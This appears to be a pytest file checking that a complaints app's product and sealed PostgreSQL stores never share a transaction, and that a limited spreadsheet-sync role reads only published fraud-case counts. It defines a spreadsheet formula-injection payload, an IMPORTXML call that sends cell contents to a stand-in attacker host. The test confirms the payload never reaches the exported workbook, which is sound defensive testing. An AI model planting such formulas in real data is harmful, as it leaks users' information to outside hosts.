"""Product and sealed store at one PostgreSQL address: what joins them, and what the sheets' own role may read."""

import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine, create_engine, make_url, text
from sqlalchemy.exc import ProgrammingError

from app.house import House
from app.settings import Settings
from kernel.codes import new_id
from kernel.errors import Unavailable
from qa import passing
from sheets_sync.worker import sync_agency
from storage.sealed.room import FraudRoom
from storage.sealed.tables import metadata as sealed
from storage.tables import metadata as product
from tests.cast import BAN_MAI, MALEE
from tests.fakes.clock import FrozenClock
from tests.fakes.complaints import CHEAP, PLOY, REPORT, staffed

TAB = "สถิติเรื่องร้องเรียน"
FORMULA = '=IMPORTXML("https://evil.example/?"&A1,"//a")'


@pytest.fixture
def house(postgres_url: str, tmp_path: Path, clock: FrozenClock) -> Iterator[House]:
    """Ban Mai on PostgreSQL, both stores in one database."""
    opened = House(Settings(data=tmp_path / "data", DATABASE_URL=postgres_url), clock)
    opened.migrate()
    with opened.workplace.begin() as work:
        work.agencies.add(BAN_MAI)
    yield opened
    opened.close()


@pytest.fixture
def owner(postgres_url: str) -> Iterator[Engine]:
    """Whoever runs the database."""
    engine = create_engine(make_url(postgres_url).set(drivername="postgresql+psycopg"), isolation_level="AUTOCOMMIT")
    yield engine
    engine.dispose()


def live(house: House) -> FraudRoom:
    """Questions, reports from form and chat, an answer and a publication, one between the other."""
    room = FraudRoom(house.sealed, house.keys, house.clock, CHEAP)
    office = staffed(room, BAN_MAI)
    for number in range(2):
        with house.workplace.begin() as work:
            passing.pass_on(work, BAN_MAI, "ขอยืมเต็นท์ได้หรือไม่", MALEE, f"m{number}", house.clock)
        office.file(replace(REPORT, what=FORMULA, who=FORMULA, contact=FORMULA))
        room.chat.begin(BAN_MAI, MALEE)
        room.chat.answer(BAN_MAI, MALEE, FORMULA, f"f{number}", new_id())
        room.chat.send(BAN_MAI, MALEE)
    room.reader(BAN_MAI, office.keys[PLOY]).write(office.references()[0], "ได้รับแล้ว")
    room.publish_snapshot(BAN_MAI, house.clock.now().date())
    return room


def test_no_transaction_wrote_in_both_stores(house: House, owner: Engine) -> None:
    live(house)
    general = _transactions(owner, [f"public.{name}" for name in product.tables])
    apart = _transactions(owner, [f"sealed.{name}" for name in sealed.tables])
    assert len(general) > 1 and len(apart) > 4
    assert general & apart == set()


def _transactions(owner: Engine, tables: list[str]) -> set[str]:
    """The marks that rows of one transaction share for ever."""
    with owner.connect() as connection:
        return {mark for one in tables for (mark,) in connection.execute(text(f"SELECT xmin::text FROM {one}"))}


@pytest.fixture
def role(house: House, owner: Engine, postgres_url: str) -> Iterator[str]:
    """An own role for the sheets: the product's tables, and nothing of the schema `sealed`."""
    name = f"{make_url(postgres_url).database}_sheets"
    grants = (
        f"CREATE ROLE {name} LOGIN PASSWORD 'sheets'",
        f"GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO {name}",
        f"GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO {name}",
    )
    with owner.connect() as connection:
        for order in grants:
            connection.execute(text(order))
    yield name
    with owner.connect() as connection:
        connection.execute(text(f"DROP OWNED BY {name}"))
        connection.execute(text(f"DROP ROLE {name}"))


@pytest.fixture
def theirs(house: House, role: str, postgres_url: str) -> Iterator[House]:
    """The house as the sheets' role enters it."""
    url = make_url(postgres_url).set(username=role, password="sheets").render_as_string(hide_password=False)
    opened = House(Settings(data=house.settings.data, DATABASE_URL=url), house.clock)
    yield opened
    opened.close()


def test_sheets_need_nothing_of_the_sealed_store_but_published_counts(
    house: House, theirs: House, owner: Engine, role: str
) -> None:
    live(house)
    without = replace(theirs.sync_parts, statistics=lambda _: ())  # as where no sealed store is configured
    assert _total(sync_agency(without, BAN_MAI).workbook) is None
    assert _readable(theirs) == []
    with pytest.raises(Unavailable, match="database"):
        sync_agency(theirs.sync_parts, BAN_MAI)
    with owner.connect() as connection:
        connection.execute(text(f"GRANT USAGE ON SCHEMA sealed TO {role}"))
        connection.execute(text(f"GRANT SELECT ON sealed.case_snapshots, sealed.case_breakdowns TO {role}"))
    assert _total(sync_agency(theirs.sync_parts, BAN_MAI, rebuild=True).workbook) == 4
    assert _readable(theirs) == ["case_breakdowns", "case_snapshots"]
    with zipfile.ZipFile(theirs.settings.workbooks / f"{BAN_MAI.code}.xlsx") as parts:
        written = b"".join(parts.read(name) for name in parts.namelist())
    assert ("ขอยืมเต็นท์ได้หรือไม่".encode() in written, b"IMPORTXML" in written) == (False, False)
    assert TAB.encode() in written  # it is not packed away from this search


def _total(workbook: Path) -> int | None:
    book = openpyxl.load_workbook(workbook)
    total: int | None = book[TAB]["C2"].value
    book.close()
    return total


def _readable(house: House) -> list[str]:
    """The sealed tables that this house's role may read."""
    readable = []
    for name in sealed.tables:
        with house.sealed.engine.connect() as connection:
            try:
                connection.execute(text(f"SELECT 1 FROM sealed.{name} LIMIT 1"))
            except ProgrammingError as refused:
                assert "permission denied" in str(refused.orig)
            else:
                readable.append(name)
    return sorted(readable)
